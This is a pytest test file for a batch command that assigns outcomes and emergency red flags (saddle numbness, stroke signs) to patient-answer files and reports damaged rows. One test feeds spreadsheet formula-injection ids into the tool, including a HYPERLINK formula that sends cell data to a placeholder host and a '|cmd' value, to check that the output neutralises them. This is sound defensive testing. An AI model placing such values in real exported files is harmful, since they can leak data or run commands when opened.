"""Files as people have them, each with its right value: see the folder ``found``."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.command import Done, run

FOUND = Path(__file__).with_name("found")


def batch(name: str, *more: str) -> Done:
    """A batch of one of the files, with rows as JSON Lines. Options with a dot are files too."""
    options = [str(FOUND / each) if each.endswith("-map.yaml") else each for each in more]
    return run("batch", str(FOUND / name), "-f", "jsonl", *options)


def rows(done: Done) -> list[dict[str, Any]]:
    return [json.loads(line) for line in done.out.splitlines()]


def told(done: Done) -> dict[str, tuple[str | None, list[str]]]:
    """Each row by its id: its outcome or kind of fault, and its red flags."""
    found = rows(done)
    assert len({row["id"] for row in found}) == len(found)
    return {row["id"]: (row["outcome"] or row["error_kind"], row["red_flags"]) for row in found}


SADDLE, STROKE = "rf_saddle_numbness", "rf_stroke_signs"


def test_damaged_rows_keep_their_ids_and_hide_no_emergency() -> None:
    done = batch("lost.csv", "--ignore", "note")
    assert told(done) == {
        "3": ("o_tibial", []),
        "7": ("syntax", [SADDLE]),
        "8": ("encoding", [SADDLE]),
        "9": ("width", [SADDLE]),
        "4": ("o_tibial", []),
        "5": ("o_tibial", []),
    }
    assert "3 rows without a result hold an emergency sign" in " ".join(done.err.split())


def test_an_id_that_comes_twice_is_told() -> None:
    done = batch("redcap-long.csv", "--map", "redcap-long-map.yaml")
    assert [(row["id"], row["error_kind"]) for row in rows(done)] == [
        ("501", None),
        ("501", "repeated_id"),
        ("502", None),
    ]
    assert rows(done)[1]["red_flags"] == [SADDLE] and done.code == 4
    visits = batch("redcap-long.csv", "--map", "redcap-long-map.yaml", "--repeated-ids")
    assert visits.code == 0 and rows(visits)[1]["outcome"] == "o_em_cauda_equina"


def test_duckdb_says_that_an_id_comes_twice(tmp_path: Path) -> None:
    options = ("--engine", "duckdb", "-o", str(tmp_path / "out.jsonl"))
    done = batch("redcap-long.csv", "--map", "redcap-long-map.yaml", *options)
    assert done.code == 4 and "1 row has the id of a row before" in done.err
    visits = batch("redcap-long.csv", "--map", "redcap-long-map.yaml", "--repeated-ids", *options)
    assert visits.code == 0


def test_a_fault_in_an_answer_does_not_hide_the_sign_beside_it() -> None:
    done = batch("none-and.csv")
    found = told(done)
    assert {id: kind for id, (kind, _) in found.items()} == {
        "p1": "stands_alone",
        "p2": "twice",
        "p3": "unknown_option",
        "p4": "unknown_option",
        "p5": "unknown_option",
        "p6": "stands_alone",
        "p7": "width",
    }
    assert all(STROKE in flags for _, flags in found.values())
    assert SADDLE in found["p7"][1]


def test_keys_that_stand_twice_and_unknown_ones_hide_no_sign() -> None:
    found = told(batch("none.jsonl"))
    assert found["r1"] == ("stands_alone", [STROKE])
    assert found["r2"] == ("o_em_cauda_equina", [SADDLE])
    assert found["r3"] == ("syntax", [SADDLE])
    assert found["r4"] == ("unknown_option", [STROKE, "rf_older_attack"])
    assert found["r5"] == ("unknown_question", [SADDLE])


def test_a_bad_case_of_a_json_list_stops_no_other() -> None:
    assert told(batch("dup-in-one.json")) == {
        "k1": ("o_tibial", []),
        "k2": ("syntax", []),
        "k3": ("o_em_cauda_equina", [SADDLE]),
        "k4": ("o_tibial", []),
    }


@pytest.mark.parametrize("suffix", ["json", "yaml"])
@pytest.mark.parametrize(
    "bad",
    [
        '{"id": "b", "saddle": "yes",, }',
        '{"id": "b", "saddle": "yes"',
        '{"id": "b" "saddle": "yes"}',
    ],
)
def test_a_case_that_cannot_be_read_stops_no_other_of_its_list(
    tmp_path: Path, bad: str, suffix: str
) -> None:
    source = tmp_path / f"list.{suffix}"
    source.write_text(f'[{{"id": "a", "saddle": "yes"}},\n{bad},\n{{"id": "c", "saddle": "yes"}}]')
    assert told(run("batch", str(source), "-f", "jsonl")) == {
        "a": ("o_em_cauda_equina", [SADDLE]),
        "b": ("syntax", [SADDLE]),
        "c": ("o_em_cauda_equina", [SADDLE]),
    }


@pytest.mark.parametrize("engine", ["plain", "duckdb"])
def test_no_spreadsheet_runs_an_id(tmp_path: Path, engine: str) -> None:
    target = tmp_path / "out.csv"
    done = run("batch", str(FOUND / "formula.csv"), "--engine", engine, "-o", str(target))
    with target.open(newline="") as file:
        ids = [row["id"] for row in csv.DictReader(file)]
    assert ids == [
        '\'=HYPERLINK("http://example.org/?"&A1)',
        "'+1-2",
        "'@SUM(A1)",
        "'-2+3|cmd",
        "x",
    ]
    assert "4 ids begin like a formula" in " ".join(done.err.split())


def test_ids_that_a_spreadsheet_has_shortened_are_told(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("id,saddle\n1.23E+14,yes\n1.24E+14,yes\nE+1,yes\n")
    assert "2 ids look as if" in " ".join(run("batch", str(source), "-f", "csv").err.split())


def test_no_row_without_an_id_has_the_name_of_another(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("id,saddle\n3,yes\n,yes\nline 3,yes\n")
    done = run("batch", str(source), "-f", "csv")
    found = list(csv.DictReader(io.StringIO(done.out)))
    assert [(row["id"], row["error_kind"]) for row in found] == [
        ("3", ""),
        ("line 3", ""),
        ("line 4", "id"),
    ]


# What nothing means


def test_codes_for_no_answer_and_numbers_as_programs_write_them(tmp_path: Path) -> None:
    map = tmp_path / "map.yaml"
    map.write_text('missing: ["-99", NASK, UNK]\n' + (FOUND / "codes-map.yaml").read_text())
    assert told(batch("codes.csv", "--map", str(map))) == {
        "a": ("o_tibial", []),
        "b": ("o_tibial", []),
        "c": ("o_em_cauda_equina", [SADDLE]),
        "d": ("o_em_blood_flow", ["rf_cold_pale_leg"]),
        "e": ("missing", []),
    }


def test_duckdb_refuses_codes_for_no_answer(tmp_path: Path) -> None:
    map = tmp_path / "map.yaml"
    map.write_text('missing: ["-99"]\n')
    target = tmp_path / "out.csv"
    done = run(
        *("batch", str(FOUND / "codes.csv"), "--map", str(map)),
        *("--engine", "duckdb", "-o", str(target)),
    )
    assert done.code != 0 and "but not translate its values" in done.err
    assert not target.exists()


def test_numbers_are_numbers_only_where_all_values_are(tmp_path: Path) -> None:
    source, map = tmp_path / "in.csv", tmp_path / "map.yaml"
    source.write_text('id,s\na,1.0\nb,"1,0"\nc,x\n')
    map.write_text("columns: {s: {to: saddle, values: {'1': yes, x: not_sure}}}\n")
    found = told(run("batch", str(source), "-f", "jsonl", "--map", str(map)))
    assert [kind for kind, _ in found.values()] == [
        *("unknown_value", "unknown_value", "o_em_cauda_equina"),
    ]


def test_the_same_letter_in_another_form_is_the_same() -> None:
    assert told(batch("nfd.csv", "--map", "nfc-map.yaml")) == {"a": ("missing", [])}


@pytest.mark.full
def test_a_thousand_unknown_values_are_compared_with_few_others(tmp_path: Path) -> None:
    from unittest.mock import patch

    from kneenumb.model import suggest

    source, map = tmp_path / "in.csv", tmp_path / "map.yaml"
    source.write_text("id,s\n" + "".join(f"p{at},value {at} here\n" for at in range(1_000)))
    map.write_text(
        json.dumps(
            {
                "columns": {
                    "s": {"to": "saddle", "values": {f"value {at}": "no" for at in range(400)}}
                }
            }
        )
    )
    with patch.object(suggest, "closest", wraps=suggest.closest) as compared:
        done = run("batch", str(source), "-f", "jsonl", "--map", str(map))
    assert {row["error_kind"] for row in rows(done)} == {"unknown_value"}
    values = [each for each in compared.call_args_list if each.args[0].startswith("value")]
    assert len(values) == suggest.MOST_SUGGESTED
